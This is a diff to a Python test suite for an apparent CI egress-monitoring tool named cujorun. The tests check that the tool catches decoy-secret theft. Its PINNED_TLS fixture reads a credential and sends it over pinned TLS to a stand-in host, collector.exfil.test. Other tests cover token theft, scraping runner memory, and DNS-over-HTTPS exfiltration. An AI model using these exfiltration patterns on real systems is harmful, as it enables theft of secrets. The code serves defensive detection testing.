@@ -15,6 +15,7 @@ as on an Actions runner; elsewhere they are skipped with the reason.
 from __future__ import annotations
 
 import json
+import re
 from typing import Any
 
 from cujorun import Review
@@ -426,17 +427,15 @@ print("resolved")
 # --------------------------------------------------------------------------- item 5: opaque
 
 # Read a credential, then talk over TLS pinned to a CA of its own: the proxy's certificate
-# fails, so nothing of what was said can be read. @READ@ is where the key is read.
+# fails, so nothing of what was said can be read. @READ@ is where the key is read. No
+# proxy is set: the connection goes straight out and the namespace catches it.
 PINNED_TLS = r"""
 import glob, os, socket, ssl
 
 @READ@
 ca = sorted(glob.glob("/usr/share/ca-certificates/mozilla/*.crt"))[0]
 context = ssl.create_default_context(cafile=ca)
-host, port = os.environ["HTTPS_PROXY"].split("//", 1)[1].rsplit(":", 1)
-raw = socket.create_connection((host, int(port)), timeout=20)
-raw.sendall(b"CONNECT collector.exfil.test:443 HTTP/1.1\r\nHost: collector.exfil.test:443\r\n\r\n")
-raw.recv(4096)
+raw = socket.create_connection(("collector.exfil.test", 443), timeout=20)
 try:
     tls = context.wrap_socket(raw, server_hostname="collector.exfil.test")
     tls.sendall(key.encode())
@@ -563,7 +562,10 @@ def test_the_checkout_token_in_git_config_is_a_decoy_and_its_theft_blocks(
     assert_blocked(review, "decoy-egress")
     (hit,) = findings(review, "decoy-egress")
     assert hit["check"] == "tests"
-    (item,) = hit["evidence"]
+    # curl went straight out (no proxy is set): its lookup of the name is evidence too.
+    (item,) = [e for e in hit["evidence"] if e["method"] == "POST"]
+    lookups = [e for e in hit["evidence"] if e is not item]
+    assert {(e["route"], e["host"]) for e in lookups} <= {("dns", "collector.exfil.test")}
     assert (item["host"], item["method"], item["phase"]) == ("collector.exfil.test", "POST", "test")
     assert item["decoy_seen"] == ["CHECKOUT_TOKEN"]
     assert "body:plain" in item["decoy_where"]
@@ -611,7 +613,8 @@ def test_scraping_the_runner_workers_memory_finds_decoys_and_blocks(reviews: Rev
     # system.github.token, github_token (one value) and a repository secret.
     assert "secrets 3" in command["stdout_tail"], command
     (hit,) = findings(review, "decoy-egress")
-    (item,) = hit["evidence"]
+    # Straight out (no proxy is set): the name's lookup is evidence beside the request.
+    (item,) = [e for e in hit["evidence"] if e["route"] != "dns"]
     assert (item["host"], item["url"]) == (
         "collector.exfil.test",
         "https://collector.exfil.test/mem",
@@ -816,9 +819,11 @@ def test_a_download_the_base_install_makes_too_is_only_noted(reviews: Reviews) -
     assert review.verdict["state"] == "clean", str(review)
     (finding,) = review.verdict["findings"]
     assert (finding["rule"], finding["severity"]) == ("install-egress", "info")
-    assert finding["title"].startswith(
-        "also at base: install: 1 request (GET) to data.example.test"
-    )
+    # The GET and the client's lookups of the name (it went straight out: no proxy is set).
+    assert re.match(
+        r"also at base: install: \d+ requests \(DNS, GET\) to data\.example\.test",
+        finding["title"],
+    ), finding["title"]
     ids = [item["id"] for item in finding["evidence"]]
     assert any(i.startswith("install:egress:") for i in ids), ids
     assert any(i.startswith("base:egress:") for i in ids), ids
@@ -868,7 +873,7 @@ def test_lookups_around_the_resolver_are_seen_and_block(reviews: Reviews) -> Non
         ["dns:hex"],
     )
     # DNS-over-HTTPS is named as such, with the name it asked for searched.
-    (doh,) = [e for e in egress if e["host"] == "dns.google"]
+    (doh,) = [e for e in egress if e["host"] == "dns.google" and e["route"] != "dns"]
     assert doh["dns_name"].endswith(".doh.exfil.test"), doh
     assert doh["decoy_seen"] == ["AWS_SECRET_ACCESS_KEY"]
     assert "doh:hex" in doh["decoy_where"]
@@ -886,7 +891,7 @@ def test_a_suite_that_resolves_names_the_ordinary_ways_stays_clean(reviews: Revi
     egress = review.report("tests")["egress"]
     names = {e["host"] for e in egress if e["route"] == "dns"}
     assert {"docs.example.test", "example.test"} <= names, egress
-    (doh,) = [e for e in egress if e["host"] == "dns.google"]
+    (doh,) = [e for e in egress if e["host"] == "dns.google" and e["route"] != "dns"]
     assert doh["dns_name"] == "example.test"
     assert_whole(review)
 
@@ -915,7 +920,7 @@ def test_a_decoy_read_then_a_channel_the_proxy_cannot_read_blocks(reviews: Revie
     assert channel["cmdline"].startswith("python -"), channel
     assert channel["parents"], channel
     assert channel["parents"][0].split(" ", 1)[1].endswith("bash")
-    assert (channel["method"], channel["action"]) == ("CONNECT", "refused")
+    assert (channel["method"], channel["route"], channel["action"]) == ("TLS", "direct", "refused")
     assert read["ts"] <= channel["ts"]
     assert_whole(review)
 
@@ -925,7 +930,7 @@ def test_pinned_tls_without_a_decoy_read_is_only_egress(reviews: Reviews) -> Non
     assert review.code == 0, str(review)
     assert review.verdict["state"] == "clean", str(review)
     assert {f["rule"] for f in review.verdict["findings"]} == {"runtime-egress"}
-    (channel,) = [e for e in review.report("tests")["egress"] if e["method"] == "CONNECT"]
+    (channel,) = [e for e in review.report("tests")["egress"] if e["method"] == "TLS"]
     assert channel["pid"] is not None  # named all the same
     assert_whole(review)
 
